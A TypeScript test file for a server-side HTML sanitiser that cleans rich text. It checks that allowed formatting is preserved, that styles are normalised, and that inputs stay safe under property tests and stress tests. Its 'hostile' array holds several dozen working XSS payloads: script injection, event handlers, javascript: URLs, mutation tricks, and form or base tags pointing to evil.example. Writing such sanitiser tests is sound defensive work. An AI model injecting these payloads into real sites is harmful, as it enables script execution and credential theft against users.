import fc from 'fast-check';
import { expect, test } from 'vitest';
import { cleanRichText } from '#server/rich-text.ts';

const made =
  '<h2>Rules</h2><p>One <strong>account</strong> <em>per</em> <u>person</u><s>s</s>.<br />Again</p>' +
  '<ul><li><p>a</p></li></ul><ol><li>b</li></ol><h3>More</h3><blockquote><p>q</p></blockquote>' +
  '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">x</a></p>' +
  '<ol start="3" type="a"><li><p>c</p></li></ol><table><tbody><tr><th colspan="2"><p>a</p></th></tr>' +
  '<tr><td rowspan="2"><p>b</p></td><td><p></p></td></tr><tr><td><p>c</p></td></tr></tbody></table>';

test('what the toolbar makes stays as it is', () => {
  expect(cleanRichText(made)).toBe(made);
});

test.each([
  ['<p></p>', ''],
  ['<p>&nbsp;</p><p> <br></p>', ''],
  ['<b>b</b><i>i</i><strike>s</strike><h1>h</h1>', '<strong>b</strong><em>i</em><s>s</s><h2>h</h2>'],
  ['<p style="color:red" class="x" id="y" title="z">a</p>', '<p>a</p>'],
  ['plain & simple < 3', 'plain &amp; simple &lt; 3'],
  [
    '<a href="mailto:help@example.com">m</a>',
    '<a href="mailto:help@example.com" rel="noopener noreferrer" target="_blank">m</a>',
  ],
  ['<table><tr><td>cell</td></tr></table>', '<table><tbody><tr><td>cell</td></tr></tbody></table>'],
  ['<p>Now <del>5</del> <ins>10</ins> points</p>', '<p>Now <s>5</s> 10 points</p>'],
  ['<p><span style="text-decoration:line-through;color:red">5</span></p>', '<p><s>5</s></p>'],
  ['<p><span style="TEXT-DECORATION-LINE: underline line-through">5</span></p>', '<p><s><u>5</u></s></p>'],
  ['<p><font style="text-decoration: line-through">5</font></p>', '<p><s>5</s></p>'],
  [
    '<p>a</p><p style="text-decoration: line-through"><b>5</b> b</p>',
    '<p>a</p><p><strong><s>5</s></strong><s> b</s></p>',
  ],
  [
    '<p style="text-decoration: line-through">5</p><p style="text-decoration: line-through">6</p>',
    '<p><s>5</s></p><p><s>6</s></p>',
  ],
  ['<ul><li style="text-decoration: line-through">5</li></ul>', '<ul><li><s>5</s></li></ul>'],
  [
    '<p><a href="https://guerdon.example" style="text-decoration: line-through">5</a></p>',
    '<p><a href="https://guerdon.example" rel="noopener noreferrer" target="_blank"><s>5</s></a></p>',
  ],
  ['<p><span style="text-decoration:underline">5</span></p>', '<p><u>5</u></p>'],
  ['<p>a<span style="display:none">b <b>c</b></span>d</p>', '<p>ad</p>'],
  ['<p>a</p><p style="color:red; display : none">b</p>', '<p>a</p>'],
  ["<p>a<span style='font-size:9.0pt;mso-hide:all'>b</span></p>", '<p>a</p>'],
  ['<p>a<a href="https://example.com" style="visibility:hidden">b</a><b hidden>c</b></p>', '<p>a</p>'],
])('%s becomes %s', (html, clean) => {
  expect(cleanRichText(html)).toBe(clean);
});

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><p>x',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)">x</a>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://x.example" target="_top" rel="opener">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<body onload=alert(1)>x',
  '<style>@import "https://evil.example"; p{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>x</p><script src=https://evil.example/x.js',
  '</p><script>alert(1)</script><p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script></p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Everything between < and > must match one of these exactly. */
const harmless =
  /^(<\/?(p|h2|h3|strong|em|u|s|ul|ol|li|blockquote|table|tbody|tr|th|td)>|<ol( start="\d{1,4}")?( type="[aAiI]")?>|<t[hd]( colspan="\d\d?")?( rowspan="\d{1,6}")?>|<br \/>|<\/a>|<a href="(https?:\/\/|mailto:)[^"<>]*" rel="noopener noreferrer" target="_blank">|[^<>])*$/;

test.each(hostile)('%s leaves nothing that acts', (html) => {
  expect(cleanRichText(html)).toMatch(harmless);
  expect(cleanRichText(`<p>before</p>${html}`)).toMatch(harmless);
});

const tags = [
  'p',
  'b',
  'a href="https://x.example"',
  'button',
  'div',
  'table',
  'tr',
  'th colspan="3" rowspan="9"',
  'td',
  'thead',
  'ul',
  'ol start="4"',
  'li',
  'li data-aria-level="2"',
  'p style="mso-list:l0 level2 lfo1"',
  'h2',
  'blockquote',
  'option',
];
const piece = fc.oneof(
  fc.constantFrom(...tags.flatMap((tag) => [`<${tag}>`, `</${tag.split(' ')[0]}>`])),
  fc.constantFrom(...hostile),
  fc.string({ maxLength: 8 }),
);

test('the result is harmless for any input, and cleaning it again changes nothing', () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      const clean = cleanRichText(pieces.join(''));
      expect(clean).toMatch(harmless);
      expect(cleanRichText(clean)).toBe(clean);
    }),
    { numRuns: 2000 },
  );
});

// The timeout of the test bounds the time that it takes.
test('a text of the greatest length is cleaned, whatever it is made of', () => {
  const distinct = (count: number) => Array.from({ length: count }, (_, n) => `c${n}`).join(' ');
  const repeated = (text: string) => text.repeat(Math.ceil(100_000 / text.length));
  for (const html of [
    repeated('<div>'),
    repeated('<table><tr><td colspan=99 rowspan=999>'),
    `<table>${repeated('<tr><td rowspan=99999>x</td></tr>')}`,
    `<style>${repeated('/*')}</style><p>x</p>`,
    `<style>${repeated('.a .a .a {display:none}')}</style>${'<b class=a>'.repeat(200)}x`,
    `<style>${'.b .q{font:b}'.repeat(20)}</style>${`<div class="${'a '.repeat(430)}">`.repeat(90)}${'<b class=q>'.repeat(600)}x`,
    `<style>${'.b .q{font:b}'.repeat(20)}</style><div class="${distinct(3000)}">${'<b class=q></b>'.repeat(4500)}x`,
    `<style>${distinct(50)
      .split(' ')
      .map((name) => `.b .${name}{font:b}`.repeat(20))
      .join('')}</style>${'<i>'.repeat(99)}${`<b class="${distinct(50)}"></b>`.repeat(400)}x`,
    `<style>.a${'.a'.repeat(15_000)} .q{font:b}</style>${'<i class=a>'.repeat(99)}${'<b class=q></b>'.repeat(4500)}x`,
    `<style>${repeated('.x{')}</style><p>x</p>`,
    `<style>${repeated('[a ')}{display:none}</style><p>x</p>`,
    `<style>${repeated('(')}{display:none}</style><p>x</p>`,
    `<style>${repeated('"\\"')}</style><p>x</p>`,
    `${'<div>'.repeat(100)}${repeated('<b class=x>y')}`,
    `<style>${repeated('@list l0:level1 ')}</style><p>x</p>`,
    `<p style="mso-list:l0 level1"><span style="mso-list:Ignore">${repeated('1.')}</span>x</p>`,
    `<p>${repeated(' ')}x</p>`,
    `<p><a href="https://www.google.com/url?${repeated('&q=')}">x</a></p>`,
    repeated('<p style="mso-list:l0 level9 lfo1">x</p><p style="mso-list:l0 level1 lfo1">x</p>'),
  ]) {
    expect(cleanRichText(html)).toMatch(harmless);
  }
});

// Cleaning once took quadratic time in the depth; the timeout of the test bounds it.
test('a text nested thousands deep is cleaned', () => {
  expect(cleanRichText('<ul><li>'.repeat(5000))).toMatch(harmless);
  expect(cleanRichText(`${'<p><button>'.repeat(3000)}x`)).toMatch(harmless);
});
